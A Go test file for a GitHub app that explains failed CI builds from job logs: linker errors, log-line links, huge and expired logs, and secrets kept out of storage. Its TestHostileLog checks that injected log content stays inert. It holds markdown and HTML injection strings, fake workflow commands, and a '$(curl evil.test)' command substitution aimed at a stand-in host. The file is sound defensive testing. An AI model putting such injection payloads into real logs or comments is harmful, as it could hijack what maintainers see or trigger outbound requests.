package stories

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/compat-app/compat/internal/test/githubtest"
	"github.com/compat-app/compat/internal/test/githubtest/cases"
)

// logged is a time as in GitHub's logs.
func logged(second int) time.Time { return time.Date(2025, 3, 1, 10, 0, second, 0, time.UTC) }

// job is a failed job; text is the output of its third step.
func job(name string, output ...string) *githubtest.Job {
	var b strings.Builder
	line := func(second int, text string) {
		b.WriteString(logged(second).Format("2006-01-02T15:04:05.0000000Z") + " " + text + "\n")
	}
	line(0, "Current runner version: '2.320.0'")
	line(0, "##[group]Operating System")
	line(0, "Ubuntu")
	line(0, "##[endgroup]")
	line(2, "##[group]Run actions/checkout@v4")
	line(2, "##[endgroup]")
	line(2, "Syncing repository")
	line(4, "##[group]Run make")
	line(4, "\x1b[36;1mmake || echo 'undefined symbol: of_the_script'\x1b[0m")
	line(4, "##[endgroup]")
	for _, o := range output {
		line(5, o)
	}
	line(6, "##[error]Process completed with exit code 2.")
	step := func(name, conclusion string, from, to int) *githubtest.Step {
		return &githubtest.Step{
			Name:       name,
			Conclusion: conclusion,
			Started:    logged(from),
			Completed:  logged(to),
		}
	}
	return &githubtest.Job{
		Name:       name,
		Conclusion: "failure",
		Blob:       githubtest.Blob{Data: []byte(b.String())},
		Steps: []*githubtest.Step{
			step("Set up job", "success", 0, 1),
			step("Run actions/checkout@v4", "success", 2, 3),
			step("build", "failure", 4, 6),
		},
	}
}

// Break ends CI on the head with a failure and sends the event.
func (s *story) Break(
	p *githubtest.Pull,
	jobs []*githubtest.Job,
	artifacts ...*githubtest.Artifact,
) *githubtest.Run {
	s.Helper()
	w := s.gh.AddRun(
		&githubtest.Run{
			Repo:       p.Repo,
			Head:       p.Head,
			Branch:     p.HeadRef,
			SHA:        p.HeadSHA,
			Event:      "pull_request",
			Pull:       p,
			Conclusion: "failure",
			Artifacts:  artifacts,
			Jobs:       jobs,
		},
	)
	s.Send("workflow_run", s.gh.RunEvent(w, "completed"))
	return w
}

// caseD is the output of GNU ld for libcufile.so on glibc before 2.34.
var caseD = []string{
	"c++ -o gds gds.o -lcufile",
	"/usr/bin/ld: /usr/local/cuda/lib64/libcufile.so: undefined reference to `dlopen'",
	"/usr/bin/ld: /usr/local/cuda/lib64/libcufile.so: undefined reference to `dlsym'",
	"collect2: error: ld returned 1 exit status",
}

func TestFailedBuildIsExplained(t *testing.T) {
	s := tell(t, world{wait: 4 * time.Second})
	p := s.Open()
	passed := &githubtest.Job{
		Name:       "lint",
		Conclusion: "success",
		Blob:       githubtest.Blob{Data: []byte("x.so: undefined symbol: of_the_other_job\n")},
	}
	w := s.Break(
		p,
		[]*githubtest.Job{passed, job("build (3.12)", caseD...), job("build (3.13)", caseD...)},
	)
	k := s.Concluded(p.HeadSHA)
	s.want(k, "failure")
	s.says(k.Title, "dlopen", "libcufile.so")
	// "##[endgroup]" has no line of its own on GitHub's page: the third line of the step's text is the
	// second one there.
	page := fmt.Sprintf(
		"https://github.test/acme/widget/actions/runs/%d/job/%d",
		w.ID,
		w.Jobs[1].ID,
	)
	s.says(
		k.Summary,
		"[line 12]("+page+"#step:3:4)",
		"[13]("+page+"#step:3:5)",
		"-Wl,--no-as-needed -ldl",
	)
	s.says(plain(k.Summary), "build (3.12)", "1 job more", "dlsym")
	_, path, _ := strings.Cut(k.DetailsURL, "/reports/")
	if code, text := s.app.get("/reports/" + path); code != 200 || path == "" {
		t.Errorf("the page answers %d", code)
	} else {
		s.says(text, `<dt>Commit</dt>`, `<a id="failure-1" class="anchor"`, "<code>build (3.12)</code> and 1 more job",
			`<a href="`+page+`#step:3:4">line 12</a>`, "<td><code>dlopen</code> <code>dlsym</code>", "no-as-needed -ldl")
		if strings.Contains(text, "####") || strings.Contains(text, "0 findings") {
			t.Errorf("the page is\n%s", text)
		}
	}
	for _, foreign := range []string{"of_the_script", "of_the_other_job"} {
		if strings.Contains(shown(k), foreign) {
			t.Errorf("%s is shown", foreign)
		}
	}
	s.Once(p, p.HeadSHA)

	s.says(s.answer(p, "/compat explain"), "dlopen", "dlsym", "build (3.12)", "-ldl")
	one := s.answer(p, "/compat explain dlsym")
	s.says(one, "dlsym", "-ldl")
	if strings.Contains(one, "dlopen") {
		t.Errorf("explaining dlsym: %s", one)
	}
	s.says(s.answer(p, "/compat explain nothing_of_it"), "There is no report on this commit yet")
	if s.downloads(&passed.Blob) > 0 {
		t.Error("the log of a job that passed was read")
	}
	s.notStored("Syncing repository")       // a line of the logs that is no error
	for _, secret := range s.gh.Secrets() { // tokens are not stored either
		s.notStored(secret)
	}
}

// notStored checks that no file of the service contains a text.
func (s *story) notStored(text string) {
	s.Helper()
	err := filepath.WalkDir(s.app.dir, func(path string, d fs.DirEntry, err error) error {
		if errors.Is(err, fs.ErrNotExist) { // a temporary file
			return nil
		}
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		data, err := os.ReadFile(path)
		if err == nil && bytes.Contains(data, []byte(text)) {
			s.Errorf("%s contains %q", path, text)
		}
		return nil
	})
	if err != nil {
		s.Fatal(err)
	}
}

// answer sends a command and waits for the reply.
func (s *story) answer(p *githubtest.Pull, command string) string {
	s.Helper()
	return s.replied(p, s.Say(p.Number, "maintainer", command))
}

func TestFailedBuildWithArtifacts(t *testing.T) {
	s := tell(t, world{})
	s.Configure("platforms: [debian11]\n")
	p := s.Open()
	name, content := cases.CaseD()
	log := append(
		[]string{"/usr/bin/ld: ./" + name + ": undefined reference to `of_another_build'"},
		caseD...)
	s.Break(
		p,
		[]*githubtest.Job{job("build", log...)},
		artifact("libraries", cases.Zip(map[string][]byte{"build/" + name: content})),
	)
	k := s.Concluded(p.HeadSHA)
	s.want(k, "failure")
	said := plain(k.Summary + k.Text)
	s.says(
		said,
		"The failed build",
		"confirmed",
		"GNU ld finds no definition on debian11",
		"contradicted",
		"does not import of_another_build",
		"tried",
	)
}

func TestBuildFailedForAnotherReason(t *testing.T) {
	s := tell(t, world{wait: 3 * time.Second})
	p := s.Open()
	s.Break(
		p,
		[]*githubtest.Job{
			job(
				"test",
				"E       AssertionError: assert 1 == 2",
				"FAILED tests/test_it.py::test_undefined_reference - assert 1 == 2",
			),
		},
	)
	k := s.Concluded(p.HeadSHA)
	s.notPassed(k)
	s.says(plain(k.Summary), "no linker, loader or runtime error", "[test](")
	s.says(s.answer(p, "/compat explain"), "no linker, loader or runtime error")
}

func TestNothingFailedToExplain(t *testing.T) {
	s := tell(t, world{})
	p := s.Open()
	s.Finish(p, wheels(cases.Clean("1.1.0")))
	s.want(s.Concluded(p.HeadSHA), "success")
	s.says(s.answer(p, "/compat explain"), "No workflow run of this commit has failed")
}

// TestHugeLog: the connection breaks once, and the log is read again; it is not kept in memory.
func TestHugeLog(t *testing.T) {
	s := tell(t, world{wait: 8 * time.Second})
	p := s.Open()
	j := job("build", caseD...)
	filler := bytes.Repeat(
		[]byte(
			logged(4).Format("2006-01-02T15:04:05.0000000Z")+
				" [ 83%] Building CXX object CMakeFiles/x.dir/src/x.cpp.o\n",
		),
		100_000,
	)
	head, tail, _ := bytes.Cut(j.Data, []byte(logged(5).Format("2006-01-02T15:04:05")))
	data := bytes.Join(
		[][]byte{
			head,
			filler,
			filler,
			filler,
			filler,
			[]byte(logged(5).Format("2006-01-02T15:04:05")),
			tail,
		},
		nil,
	)
	j.Data, j.Cuts = data, 1
	s.Break(p, []*githubtest.Job{j})
	k := s.Concluded(p.HeadSHA)
	s.want(k, "failure")
	s.says(k.Summary, "[line 400012](", "#step:3:400004)")
	if n := s.downloads(&j.Blob); n < 2 {
		t.Errorf("%d downloads of a log that breaks once", n)
	}
	if mib := s.app.peak(); mib > 400 {
		t.Errorf("%d MiB for a log of %d", mib, len(data)>>20)
	}
}

// code is a text that Markdown shows unchanged.
var code = regexp.MustCompile("(?s)```.*?```|``(?:[^`]|`[^`])+``|`[^`\n]+`")

// TestHostileLog: the content of a log is shown as plain text.
func TestHostileLog(t *testing.T) {
	s := tell(t, world{wait: 3 * time.Second})
	p := s.Open()
	s.Break(p, []*githubtest.Job{job(
		"@octocat](https://evil.test) <b>",
		"::error::undefined symbol: @octocat/team",
		"x/@octocat#1.so: undefined symbol: https://evil.test/`a`",
		"/usr/bin/ld: a.o: undefined reference to `</code>@octocat<img src=x> ![i](https://evil.test)'",
		"::add-mask::hunter2",
		"::set-output name=x::y",
		"##[group]Run $(curl evil.test)",
		"ImportError: lib***.so.1: cannot open shared object file: No such file or directory",
	)})
	k := s.Concluded(p.HeadSHA)
	s.notPassed(k)
	s.says(k.Summary, "octocat", "evil.test", "lib***.so.1")
	s.answer(p, "/compat explain")
	texts := map[string]string{"the title": k.Title, "the summary": k.Summary}
	for i, c := range s.gh.CommentsBy(s.gh.Bot(), p.Repo, p.Number) { // the reply is one of them
		texts[fmt.Sprintf("comment %d", i)] = c.Body
	}
	for what, text := range texts {
		bare := code.ReplaceAllString(text, " ")
		for _, alive := range []string{"@octocat", "evil.test", "<img", "<b>", "#1", "hunter2"} {
			if what == "the title" && (alive == "evil.test" || alive == "#1" || alive == "<img") {
				continue // plain text, in which only mentions have an effect
			}
			if strings.Contains(bare, alive) {
				t.Errorf("%s has %s alive:\n%s", what, alive, text)
			}
		}
	}
}

func TestExpiredLog(t *testing.T) {
	s := tell(t, world{wait: 3 * time.Second})
	p := s.Open()
	j := job("build", caseD...)
	j.Expired = true
	s.Break(p, []*githubtest.Job{j})
	k := s.Concluded(p.HeadSHA)
	s.notPassed(k)
	s.says(plain(k.Summary), "its log has expired")
}
